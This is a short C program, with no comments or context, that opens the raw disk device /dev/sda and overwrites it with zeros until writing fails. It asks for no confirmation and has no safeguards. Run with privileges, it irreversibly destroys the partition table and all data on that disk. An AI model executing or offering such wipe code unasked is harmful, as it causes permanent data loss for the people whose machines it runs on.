#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define BLK (1 << 20)

int main(void)
{
    static char zeros[BLK];
    int fd = open("/dev/sda", O_WRONLY);
    if (fd < 0) {
        perror("open");
        return 1;
    }
    memset(zeros, 0, sizeof zeros);
    long total = 0;
    ssize_t n;
    while ((n = write(fd, zeros, sizeof zeros)) > 0)
        total += n;
    printf("wrote %ld bytes\n", total);
    close(fd);
    return 0;
}
